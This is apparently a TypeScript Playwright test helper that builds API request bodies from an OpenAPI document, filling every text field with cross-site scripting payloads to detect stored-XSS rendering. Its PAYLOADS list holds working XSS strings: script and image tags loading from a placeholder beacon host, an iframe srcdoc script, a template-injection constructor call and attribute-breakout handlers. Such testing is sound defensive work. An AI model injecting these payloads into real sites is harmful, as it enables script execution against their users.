import type { APIRequestContext } from '@playwright/test';

interface Schema {
  $ref?: string;
  allOf?: Schema[];
  anyOf?: Schema[];
  type?: string;
  format?: string;
  enum?: unknown[];
  items?: Schema;
  properties?: Record<string, Schema>;
  required?: string[];
  pattern?: string;
  'x-pattern-flags'?: string;
  'x-time-zone'?: unknown;
  'x-message'?: Record<string, string>;
  maxLength?: number;
  minimum?: number;
  example?: unknown;
}

interface ApiDocument {
  components: { schemas: Record<string, Schema> };
}

/** Begins every text, so that a screen can be seen to show it. */
export const MARK = '<svg onload=__xss=1>';

/** Texts that run where a text is taken for something else; the longest that a field takes is put into it. */
const PAYLOADS = [
  `${MARK}"'><script src=https://beacon.example/s></script><img src=https://beacon.example/i onerror=__xss=2><iframe srcdoc="<script>top.__xss=3</script>">\`;__xss=4//{{constructor.constructor('__xss=5')()}}`,
  `${MARK}"'><img src=https://beacon.example/i onerror=__xss=2>`,
  MARK,
  'https://link.example/"onmouseover="__xss=6"><svg/onload=__xss=7>',
  'link.example/"><svg/onload=__xss=7>',
];

/** Makes bodies whose every text field holds a script, from the API's own document: no field can be forgotten. */
export class HostileValues {
  private constructor(private readonly document: ApiDocument) {}

  static async read(request: APIRequestContext): Promise<HostileValues> {
    return new HostileValues(await (await request.get('/api/openapi.json')).json());
  }

  /** A body or an answer of this name. `given` is put over it where a field means something else than text. */
  of(name: string, given: object = {}): Record<string, unknown> {
    return { ...(this.value({ $ref: `#/components/schemas/${name}` }) as object), ...given };
  }

  private value(schema: Schema): unknown {
    const { $ref, allOf, anyOf, ...rest } = schema;
    // A reference, or null.
    if (anyOf) return this.value({ ...rest, allOf: anyOf.slice(0, 1) });
    if ($ref) {
      return this.value(this.document.components.schemas[$ref.slice($ref.lastIndexOf('/') + 1)] ?? {});
    }
    if (allOf) return this.value({ ...Object.assign({}, ...allOf.map((part) => this.whole(part))), ...rest });
    if (schema.enum) return schema.enum[0];
    if (schema.properties) {
      const fields = Object.entries(schema.properties).map(([name, field]) => [name, this.value(field)]);
      return Object.fromEntries(fields);
    }
    if (schema.type === 'array') return [this.value(schema.items ?? {})];
    if (schema.type === 'string') return textFor(schema);
    if (schema.type === 'boolean') return false;
    return schema.example ?? schema.minimum ?? 1;
  }

  private whole({ $ref, ...schema }: Schema): Schema {
    return $ref ? (this.document.components.schemas[$ref.slice($ref.lastIndexOf('/') + 1)] ?? {}) : schema;
  }
}

function textFor(schema: Schema): unknown {
  const { pattern, 'x-pattern-flags': flags, format, maxLength = 10_000, example } = schema;
  if ((format && format !== 'uri') || schema['x-message']?.['x-time-zone'])
    return example ?? DATES[format ?? ''];
  const fits = pattern ? new RegExp(pattern, flags) : undefined;
  return PAYLOADS.find((text) => text.length <= maxLength && (!fits || fits.test(text))) ?? example;
}

const DATES: Readonly<Record<string, string>> = {
  'date-time': '2026-11-21T08:30:00.000Z',
  date: '2026-11-21',
  uuid: '019a2c1e-7c1b-7f0a-9d5e-2f6f8a1b2c3d',
};
